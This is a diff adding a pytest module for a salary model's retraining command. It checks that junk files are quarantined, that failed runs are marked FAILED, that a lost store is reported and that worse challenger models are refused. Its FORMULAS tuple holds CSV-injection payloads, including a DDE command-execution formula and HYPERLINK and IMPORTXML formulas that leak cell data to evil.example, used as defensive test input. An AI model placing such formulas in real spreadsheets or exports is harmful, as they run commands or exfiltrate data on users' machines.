@@ -1,0 +1,224 @@
+"""The retrain says no: junk files are quarantined whole, a challenger worse on another
+source's latest period is refused, a failing run is FAILED, a lost store is named.
+
+A small project for the module (``test_retraining.make_project``: survey rows before
+2024 and postings; champion v1 trained on them). The refusal of a challenger that
+hurts the other source runs on the whole shipped data: the issue's case (1,597 later
+survey rows that made later postings worse) does not show in small samples.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import signal
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+from typer.testing import CliRunner
+
+from salarymodel import retraining
+from salarymodel.cli import app
+from salarymodel.config import load_settings
+from salarymodel.registry import RegistryError, connect
+
+pytestmark = pytest.mark.slow  # the module trains a champion first
+# test_retraining's project helpers import test_service (tests/service), which is on
+# sys.path only when pytest collected that folder too; run on its own, this module adds it.
+SERVICE_TESTS = str(Path(__file__).resolve().parents[1] / "service")
+if SERVICE_TESTS not in sys.path:
+    sys.path.append(SERVICE_TESTS)
+runner = CliRunner()
+ROOT = Path(__file__).resolve().parents[2]
+# The issue's junk: spreadsheet formulas as job titles (OWASP CSV injection).
+FORMULAS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
+    "=SUM(A1:A9)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://evil.example/",B2),"//a")',
+)
+
+
+def _invoke(*args: str, code: int) -> str:
+    result = runner.invoke(app, list(args))
+    assert result.exit_code == code, result.output
+    return " ".join(result.output.split())
+
+
+def _versions() -> list[dict]:
+    return json.loads(runner.invoke(app, ["versions", "--json"]).stdout)
+
+
+def _last_retrain_run():
+    settings = load_settings()
+    client = connect(settings)
+    experiment = client.get_experiment_by_name(settings.tracking.experiment)
+    (run,) = client.search_runs(
+        [experiment.experiment_id],
+        filter_string="tags.kind = 'retrain'",
+        order_by=["attributes.start_time DESC"],
+        max_results=1,
+    )
+    return run
+
+
+@pytest.fixture(scope="module")
+def base(tmp_path_factory, aijobs_raw, postings_raw) -> Iterator[Path]:
+    from test_retraining import make_project, trained_champion
+
+    root = tmp_path_factory.mktemp("refusals")
+    make_project(root, aijobs_raw, postings_raw)
+    with trained_champion(root):
+        yield root
+
+
+def test_a_file_of_formula_titles_is_quarantined_whole_and_nothing_promoted(base: Path) -> None:
+    before = _versions()
+    rows = pd.read_csv(base / "data" / "new.csv", dtype=str, keep_default_na=False)
+    junk = rows.sample(200, random_state=7).reset_index(drop=True)
+    for i in range(193):  # the issue's file: 193 of 200 titles are formulas
+        junk.loc[i, "job_title"] = FORMULAS[i % len(FORMULAS)] + f"&{i}"
+    path = base / "formulas.csv"
+    junk.to_csv(path, index=False)
+    out = _invoke("retrain", "--data", str(path), code=1)
+    assert "kept champion v1" in out
+    # 193 of 200 = 96.5%: seen as unknown titles here (or, where formula cells are
+    # quarantined row by row, as the quarantined share); either refuses the file whole.
+    refused = re.findall(r"(unseen titles|quarantined share): [^;]*?96\.5%", out)
+    assert refused, out
+    assert "the whole file was quarantined" in out
+    assert "salary PSI" in out  # the drift figures are printed ...
+    (copy,) = (base / "models" / "retraining" / "quarantine").glob("*-formulas.csv")
+    assert copy.read_bytes() == path.read_bytes()  # the whole file, as delivered
+    # ... and written beside it with the reasons.
+    reason = copy.with_name(copy.name + ".reason.txt").read_text()
+    assert f"failed: {refused[0]}: " in reason and "96.5%" in reason
+    figures = json.loads(reason[reason.index("{") : reason.rindex("}") + 1])
+    assert {"unseen_title_share", "top_psi", "salary_psi"} <= set(figures)
+    # Nothing was trained on it, registered, promoted or kept.
+    assert _versions() == before
+    assert not list((base / "models").glob("accepted/*/*.csv.gz"))
+    assert "held-out new rows" not in out
+
+
+def test_a_store_lost_mid_retrain_is_named_and_not_recreated(base: Path, monkeypatch) -> None:
+    before = _versions()
+    store, away = base / "mlflow.db", base / "mlflow.db.away"
+    measure = retraining.measure_drift
+
+    def moved_away(*args, **kwargs):
+        os.rename(store, away)  # what an operator's `mv mlflow.db ...` does mid-run
+        return measure(*args, **kwargs)
+
+    monkeypatch.setattr(retraining, "measure_drift", moved_away)
+    try:
+        out = _invoke("retrain", "--data", str(base / "data" / "new.csv"), code=2)
+        assert not store.exists()  # not silently recreated
+        assert out.count("error:") == 1
+        assert "was moved, deleted or replaced while this command ran" in out
+        assert "autoflush" not in out and "no such table" not in out
+    finally:
+        os.replace(away, store)
+    assert _versions() == before
+
+
+def test_a_failing_retrain_run_is_failed_in_mlflow(base: Path, monkeypatch) -> None:
+    before = _versions()
+
+    def disk_full(*args, **kwargs):
+        raise OSError(28, "No space left on device")
+
+    # After the gate's comparisons, inside the run: the run must not stay RUNNING.
+    monkeypatch.setattr(retraining, "refit_challenger", disk_full)
+    result = runner.invoke(app, ["retrain", "--data", str(base / "data" / "new.csv")])
+    assert result.exit_code != 0 and isinstance(result.exception, OSError)
+    run = _last_retrain_run()
+    assert run.info.status == "FAILED"
+    # The gate compared on each source's latest period before the failure.
+    reason = run.data.tags["gate.reason"]
+    assert "recent period aijobs 2023" in reason and "recent period postings 2023-" in reason
+    assert {"recent.aijobs.difference", "recent.postings.difference"} <= set(run.data.metrics)
+    assert _versions() == before
+
+
+def test_a_retrain_failing_to_publish_is_failed_in_mlflow(base: Path, monkeypatch) -> None:
+    before = _versions()
+
+    class Logged:  # what refit_challenger returns; nothing is refit
+        model_uri = "runs:/none/model"
+
+    def refused(*args, **kwargs):
+        raise RegistryError("cannot register: the store is read-only")
+
+    monkeypatch.setattr(retraining, "refit_challenger", lambda *a, **k: Logged())
+    monkeypatch.setattr(retraining, "register", refused)
+    out = _invoke("retrain", "--data", str(base / "data" / "new.csv"), code=2)
+    assert "error: cannot register: the store is read-only" in out
+    run = _last_retrain_run()
+    assert run.info.status == "FAILED"
+    assert run.data.tags["error"] == "RegistryError: cannot register: the store is read-only"
+    assert _versions() == before
+    assert not list((base / "models").glob("accepted/*/*.csv.gz"))
+
+
+def test_a_terminated_retrain_run_is_failed_in_mlflow(base: Path) -> None:
+    """SIGTERM (`kill`, a job's time limit) mid-training: exit 143, the run FAILED."""
+    from test_retraining import BIN, _env
+
+    before = _versions()
+    process = subprocess.Popen(
+        [str(BIN / "salarymodel"), "retrain", "--data", str(base / "data" / "new.csv")],
+        cwd=base, env=_env(base), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    seen = []
+    try:
+        for line in process.stderr:  # progress lines (stderr is not a terminal)
+            seen.append(line)
+            if "fitting a challenger" in line:
+                process.send_signal(signal.SIGTERM)
+                break
+        process.communicate(timeout=120)
+    finally:
+        if process.poll() is None:
+            process.kill()
+            process.wait()
+    assert process.returncode == 128 + signal.SIGTERM, "".join(seen)[-2000:]
+    assert _last_retrain_run().info.status == "FAILED"
+    assert _versions() == before
+
+
+# ----- a challenger worse on another source ------------------------------------------------
+def test_later_survey_rows_that_hurt_postings_are_refused(settings, sources, monkeypatch) -> None:
+    """The issue's case on the shipped data: 1,597 survey records of 2024 added to
+    everything before them make postings' latest quarter clearly worse."""
+    from salarymodel.dataset import load_training_data
+    from salarymodel.retraining import RetrainDecision, compare_recent_periods, period_checks
+
+    monkeypatch.setenv("SALARYMODEL_ROOT", str(ROOT))  # the shipped data, not the module's
+    monkeypatch.chdir(ROOT)
+
+    records = load_training_data(settings, sources, accepted=False).records
+    records = records.reset_index(drop=True)
+    later = np.flatnonzero((records["source"] == "aijobs") & (records["year"] == 2024))
+    new = np.random.default_rng(0).choice(later, 1597, replace=False)
+    keep = ~np.isin(np.arange(len(records)), np.setdiff1d(later, new))
+    is_new = np.isin(np.arange(len(records)), new)[keep]
+    periods = compare_recent_periods(records[keep].reset_index(drop=True), is_new, settings)
+    decision = RetrainDecision()
+    assert not period_checks(periods, ["aijobs", "postings"], settings, decision)
+    print("\n".join(f"{c.name}: {c.detail}" for c in decision.checks))  # for the record (-s)
+    survey, postings = decision.checks
+    assert survey.name == "recent period aijobs 2023" and survey.passed
+    assert postings.name == "recent period postings 2023-10..2023-12" and not postings.passed
+    assert "fit on 18,442 earlier records with vs without the 1,597 new ones" in postings.detail
+    assert "is worse than without them" in postings.detail
+    worse = periods[1].interval
+    assert worse.rows == 3682 and worse.low > 0  # the whole interval: worse
+    assert not decision.promote and "recent period postings" in decision.reason
